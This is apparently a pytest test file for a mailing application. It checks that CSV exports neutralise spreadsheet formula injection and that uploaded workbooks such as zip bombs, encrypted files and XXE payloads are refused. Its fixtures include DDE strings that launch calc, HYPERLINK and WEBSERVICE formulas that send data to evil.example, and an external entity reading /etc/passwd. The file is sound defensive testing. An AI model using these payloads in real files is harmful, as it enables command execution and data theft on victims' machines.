"""What somebody writes into a name, an address or a mail server's reply, for a spreadsheet to compute; and
workbooks that somebody made for us to choke on.

A spreadsheet splits the file where its country splits (a German one at semicolons), may take no
notice of quotes, and computes whatever then begins like a formula.
"""

from __future__ import annotations

import csv
import io
import random
import re
import signal
import tracemalloc
import unicodedata
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from mailroom.content.recipients.files import workbook, workbook_reader
from mailroom.content.recipients.files.csv_file import parse_csv
from mailroom.content.recipients.files.list_file import parse_file
from mailroom.content.recipients.parsed import Parsed
from mailroom.content.recipients.table import Wishes
from mailroom.content.text.formulas import harmless, restored
from mailroom.database.engine import Database
from mailroom.files import NoTemporaryRoom
from mailroom.ledger import suppressions
from mailroom.ledger.schema import contents
from mailroom.web.compose.prefill import copied
from mailroom.web.compose.uploads import Uploads
from mailroom.web.csv_export import DELIVERIES_CSV_HEADER, line
from tests.content import workbooks
from tests.content.workbooks import OLE, lying, rows, text, xlsx, zipped
from tests.servers import wait_until
from tests.web.watching import a_mailing

SEPARATORS = ",;\t|"
BEGINNINGS = "=+-@"

HOSTILE = {
    "at once": "=1+1",
    "behind a separator": "Bob;=1+1;",
    "behind a comma": "Bob,=1+1,",
    "behind a tab": "Bob\t=1+1\t",
    "behind a bar": "Bob|=1+1|",
    "in a link": 'Bob;=HYPERLINK("http://evil.example/?"&A1;"more");',
    "a program": "Bob;=cmd|' /C calc'!A0;",
    "a program after a sign": "Bob;-2+3+cmd|' /C calc'!A0;",
    "an old function": "Bob;@SUM(1+1)*cmd|' /C calc'!A0;",
    "behind a line feed": "Bob\n=1+1",
    "behind a carriage return": "Bob\r=1+1",
    "behind a line end": "Bob\r\n=1+1\r\n",
    "behind blanks": "Bob;   =1+1;",
    "behind a blank that does not break": "Bob;\u00a0=1+1;",
    "behind what nobody sees": "Bob;\u200b\ufeff\u2060=1+1;",
    "behind a turn of direction": "Bob;\u202e=1+1;",
    "behind a NUL": "Bob;\0=1+1;",
    "in quotes": 'Bob;"=1+1";',
    "behind a quote": 'Bob";=1+1;"',
    "behind many quotes": 'Bob"""";"""=1+1""";',
    "in single quotes": "Bob;'=1+1';",
    "full-width": "Bob;\uff1d1+1;",
    "a full-width plus": "\uff0b1+1",
    "a full-width minus": "Bob;\uff0d1+1;",
    "a full-width at": "Bob;\uff20SUM(1);",
    "a small equals sign": "Bob;\ufe661+1;",
    "a minus of mathematics": "Bob;\u22121+1;",
    "behind empty cells": "Bob;;;=1+1;;",
    "behind cells of all kinds": "Bob;,|\t =1+1",
    "behind a full-width blank": "\u3000=1+1",
    "several": "=1;+1;-1;@a,=1|+1\t-1\n@a",
    "as often as there is room": ";=" * 100,
    "a phone number": "+49 170 1234567",
    "a negative number": "-5",
}


def cells(text: str, separator: str) -> Iterator[str]:
    """All that a spreadsheet may take for a cell: with and without regard to quotes."""
    yield from re.split(f"[{re.escape(separator)}\r\n]", text)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row
    yield from re.findall(rf'"(?:[^"]|"")*"|[^"{re.escape(separator)}\r\n]+', text)


def is_live(cell: str) -> bool:
    seen = "".join(
        character
        for character in unicodedata.normalize("NFKC", cell.replace("\u2212", "-"))
        if unicodedata.category(character) not in ("Cc", "Cf", "Zs", "Zl", "Zp")
    )
    return seen.lstrip('"').startswith(tuple(BEGINNINGS))


def live(text: str) -> list[tuple[str, str]]:
    return [(at, cell) for at in SEPARATORS for cell in cells(text, at) if is_live(cell)]


def test_this_file_sees_a_live_cell() -> None:
    assert live("ann@example.org,Bob;=1+1;,sent\r\n")
    assert live('ann@example.org,"Bob\n=1+1",sent\r\n')
    assert not live("ann@example.org,Bob;'=1+1;,sent\r\n")


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("place", range(3))
def test_no_cell_of_a_line_is_live(words: str, place: int) -> None:
    row = ["ann@example.org", "Ann", "250 OK"]
    row[place] = words
    assert live(line(row)) == []


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
def test_an_honest_reader_reads_the_same_rows(words: str) -> None:
    row = ["ann@example.org", words, "250 OK"]
    [read] = csv.reader(io.StringIO(line(row), newline=""), strict=True)
    assert restored(read) == row
    assert [cell.replace("'", "") for cell in read] == [cell.replace("'", "") for cell in row]


TEXTS = st.text(st.sampled_from("=+-@,;\t|\r\n \"'ab1\uff1d\u200b\u3000\u202e"), max_size=12)


@given(TEXTS)
def test_no_text_is_live_and_each_is_read_again(text: str) -> None:
    assert live(line([text, text])) == []
    assert restored([harmless(text)]) == [text]


@given(st.text(max_size=30))
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    if not live(text) and not any(character in BEGINNINGS + SEPARATORS + "\r\n" for character in text):
        assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("words", ["250 Ok - thanks", "call +49 30 1234", "5 @ 3 = 15", "Ann Lee"])
def test_words_behind_blanks_are_left_as_they_are(words: str) -> None:
    assert harmless(words) == words


@pytest.mark.parametrize("filler", [";", "\t", ";'", "\n", " ", "\u200b", ",;|\t", "'"])
def test_a_long_run_of_separators_is_looked_at_once(filler: str) -> None:
    """Looked at anew from each, a million of them would take days."""
    assert harmless(filler * 1_000_000 + "x").replace("'", "").endswith("x")


def test_our_own_export_is_read_with_the_same_addresses_and_names() -> None:
    people = {
        "=cmd@example.org": "=1+1",
        "+49@example.org": "+49 170 1234567",
        "-5@example.org": "-5",
        "'quoted'@example.org": "O'Brien",
        "bob@example.org": "Bob;=1+1;",
        "cleo@example.org": "'=1+1",
        "dora@example.org": 'Dora "D", Müller',
    }
    exported = line(DELIVERIES_CSV_HEADER) + "".join(
        line([a, n, "sent", "1", "250", "+OK", "", ""]) for a, n in people.items()
    )
    parsed = parse_csv(io.BytesIO(exported.encode()))
    assert parsed.problems == []
    assert {one.address: one.name for one in parsed.recipients} == people
    assert {(one.variables or {})["reply"] for one in parsed.recipients} == {"+OK"}


def test_our_own_export_saved_as_a_workbook_has_the_same_values() -> None:
    exported = [harmless(words) for words in ("+49 30", "=1+1", "'t is", "plain")]
    table = rows(
        ("email", *"abcd"),
        ("ann@example.org", *(text(f"{n}2", v) for n, v in zip("BCDE", exported, strict=True))),
    )
    values = read(xlsx({"S": table})).recipients[0].variables or {}
    assert list(values.values()) == ["+49 30", "=1+1", "'t is", "plain"]


def test_the_suppressions_of_a_page_are_harmless(app: Flask, client: FlaskClient) -> None:
    with app.extensions["mailroom"].database.begin() as connection:
        suppressions.add(connection, ["-5@example.org"], "manual", "seen;=1+1;\uff1d1")
    exported = client.get("/suppressions.csv").text
    assert "-5@example.org" in exported and live(exported) == []


def test_a_copied_mailing_has_the_values_that_it_had(app: Flask, client: FlaskClient) -> None:
    """They travel as a file of ours, which is read like anybody's."""
    people = ["=1+1", "'=1+1", "Bob;=1+1;", "O'Brien"]
    database: Database = app.extensions["mailroom"].database
    rows = [{"address": f"b{n}@example.org", "variables": {"note": note}} for n, note in enumerate(people)]
    mailing_id = a_mailing(database, *rows)
    with database.begin() as connection:
        connection.execute(update(contents).values(columns=["note"]))
    with database.read() as connection, app.test_request_context():
        form = copied(connection, mailing_id, Uploads(app.extensions["mailroom"].settings.home, 1))
    assert form is not None and form.recipients_file is not None
    read = parse_csv(form.recipients_file.data).recipients
    assert [(one.variables or {})["note"] for one in read] == people


GUESTS = rows(("email", "town"), ("ann@example.org", "Rome"))


def read(data: bytes, sheet: str = "") -> Parsed:
    return parse_file(io.BytesIO(data), Wishes(sheet=sheet))


def reached(place: str) -> bytes:
    """A workbook with one more cell, far outside."""
    number = int(place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    return xlsx({"S": GUESTS + f'<row r="{number}">{text(place, "x")}</row>'})


def ods(manifest: bytes = b"") -> bytes:
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": b"\x93" * 400,
            "META-INF/manifest.xml": manifest,
        }
    )


WORKBOOK = xlsx({"S": GUESTS})
REFUSED = {
    "a cell at the far end": (reached("XFD1048576"), "reach too far"),
    "a directory that promises terabytes": (lying(WORKBOOK, 0xF0000000), "far larger inside"),
    "very many parts": (
        xlsx({"S": GUESTS}, extra={f"xl/media/{n}.png": b"" for n in range(6_000)}),
        "far larger inside",
    ),
    "cut off": (WORKBOOK[:-200], "damaged"),
    "cut off early": (WORKBOOK[:900], "is a"),
    "rubbish in a sheet": (
        zipped({"xl/workbook.xml": b"<workbook><sheets><sheet", "[Content_Types].xml": b"<"}),
        "damaged",
    ),
    "a sealed Excel workbook": (
        OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(500),
        "password",
    ),
    "a sealed OpenDocument": (ods(b"<manifest:encryption-data/>"), "password"),
    "an old Word document": (OLE + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(500), "Word"),
    "an Outlook message": (OLE + bytes(504) + "__substg1.0_1000001F".encode("utf-16-le"), "Outlook"),
    "an OpenDocument of rubbish": (ods(), "damaged"),
    "old Excel's beginning": (OLE + random.Random(1).randbytes(3_000), "damaged"),
    "nothing but an archive's end": (b"PK\x05\x06" + bytes(18), "ZIP"),
    "no sheet": (xlsx({}), "without a sheet"),
}


@pytest.mark.parametrize("attack", REFUSED)
def test_a_workbook_that_harms_says_what_it_is_and_what_to_do(attack: str) -> None:
    data, words = REFUSED[attack]
    parsed = read(data)
    assert words in parsed.refusal and "CSV" in parsed.refusal and parsed.refusal.isprintable()
    assert parsed.recipients == [] and parsed.problems.total == 1


def test_a_bomb_that_lies_about_its_size_is_stopped_in_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_CPU_SECONDS", 1)
    rubble = f'<row r="3">{text("A3", "x" * 1_000)}</row>' * 200_000
    bomb = lying(xlsx({"S": GUESTS + rubble}))
    assert len(bomb) < 2_000_000
    assert re.search("takes too long|damaged", read(bomb).refusal)


MANY = workbooks.row(1, "email", "n") + "".join(
    workbooks.row(number, f"p{number}@example.org", "x" * 50) for number in range(2, 400)
)


def test_what_is_written_is_bounded_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_WRITTEN", 10_000)
    assert "far larger inside" in read(xlsx({"S": MANY})).refusal


def test_a_full_disk_is_not_the_workbooks_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "_target", partial(open, "/dev/full", "w+b"))
    for sheet in (MANY, GUESTS):  # while it is written, and at its end
        with pytest.raises(NoTemporaryRoom):
            read(xlsx({"S": sheet}))


def test_one_that_takes_too_long_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_CPU_SECONDS", 1)
    long = "".join(workbooks.row(number, f"p{number}@example.org", "x") for number in range(2, 150_000))
    assert "takes too long" in read(xlsx({"S": long})).refusal


def test_one_that_takes_too_much_memory_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_MEMORY", 50 << 20)
    many = "".join(workbooks.row(number, f"p{number}@example.org", "x" * 50) for number in range(2, 150_000))
    refusal = read(xlsx({"S": many})).refusal
    assert "more memory" in refusal and "damaged" not in refusal


@pytest.mark.parametrize("ended", [signal.SIGKILL, signal.SIGTERM])
def test_one_whose_reader_is_killed_says_so(
    ended: signal.Signals, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    program = tmp_path / "killed.py"
    program.write_text(f"import os\nos.kill(os.getpid(), {int(ended)})\n")
    monkeypatch.setattr(workbook_reader, "__file__", str(program))
    refusal = read(WORKBOOK).refusal
    assert "ended from outside" in refusal and "damaged" not in refusal and "CSV" in refusal


@pytest.mark.parametrize("place", ["A1048576", "XFD1"])
def test_a_stray_cell_along_one_side_costs_a_sentence_at_most(place: str) -> None:
    parsed = read(reached(place))
    assert [one.address for one in parsed.recipients] == ["ann@example.org"] or "16,384 columns" in str(
        parsed.problems
    )


def test_few_wait_for_a_workbook_and_the_others_are_told_at_once() -> None:
    """Each that waits holds a request, and a process has few threads for them."""
    with workbook._reading, ThreadPoolExecutor(workbook.WORKBOOKS_AT_ONCE) as pool:
        waiting = [pool.submit(read, WORKBOOK) for _ in range(workbook.WORKBOOKS_AT_ONCE)]
        wait_until(lambda: not workbook._places._value, what="a turn of each")
        assert "Other workbooks" in read(WORKBOOK).refusal
        assert not any(one.done() for one in waiting), "those who came before still wait"
        workbook._reading.release()
        assert [len(one.result(60).recipients) for one in waiting] == [1] * workbook.WORKBOOKS_AT_ONCE
        workbook._reading.acquire()
    assert read(WORKBOOK).recipients


def test_macros_links_and_entities_are_words_or_nothing() -> None:
    hostile = (
        '<c r="B2"><f>[1]Sheet!A1+WEBSERVICE("http://evil.example/")</f><v>7</v></c>',
        '<c r="B2" t="str"><f>cmd|" /C calc"!A0</f><v>=cmd|x</v></c>',
    )
    for cell, value in zip(hostile, ("7", "=cmd|x"), strict=True):
        table = rows(("email", "n"), ("ann@example.org", cell))
        data = xlsx({"S": table}, extra={"xl/vbaProject.bin": OLE + bytes(100)})
        assert (read(data).recipients[0].variables or {}) == {"n": value}
    entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
    sheet = f'{entity}<worksheet xmlns="{workbooks.MAIN}"><sheetData>{GUESTS}</sheetData></worksheet>'
    parsed = read(
        xlsx({"S": ""}, extra={"xl/worksheets/sheet1.xml": sheet.replace("Rome", "Rome&b;").encode()})
    )
    assert "root:" not in str(parsed) and (parsed.refusal or "Rome" in str(parsed.recipients))


def test_a_damaged_workbook_never_harms_whoever_reads_it() -> None:
    """Octets changed here and there: it is read, or it is refused."""
    chance = random.Random(3)
    for _ in range(25):
        data = bytearray(WORKBOOK)
        for _ in range(chance.randrange(1, 12)):
            data[chance.randrange(4, len(data))] = chance.randrange(256)
        parsed = read(bytes(data))
        assert parsed.refusal or parsed.recipients or parsed.problems


def test_the_workbook_is_never_in_our_memory() -> None:
    many = "".join(workbooks.row(number, "ann@example.org", "x" * 500) for number in range(2, 8_000))
    data = io.BytesIO(xlsx({"S": workbooks.row(1, "email", "n") + many}))
    tracemalloc.start()
    parsed = parse_file(data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (len(parsed.recipients), parsed.duplicates.total) == (1, 7_997) and peak < 2_500_000


def test_the_process_that_reads_knows_nothing_of_ours(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    spy = tmp_path / "spy.py"
    spy.write_text(
        "import json, os; print(json.dumps({'kind': 'workbook', 'width': 1, 'sheets': list(os.environ), "
        "'sheet': os.getcwd()}))"
    )
    monkeypatch.setattr(workbook_reader, "__file__", str(spy))
    monkeypatch.setenv("SECRET_KEY", "hush")
    assert set(read(WORKBOOK).sheets) <= {"RUST_BACKTRACE", "LC_CTYPE"}
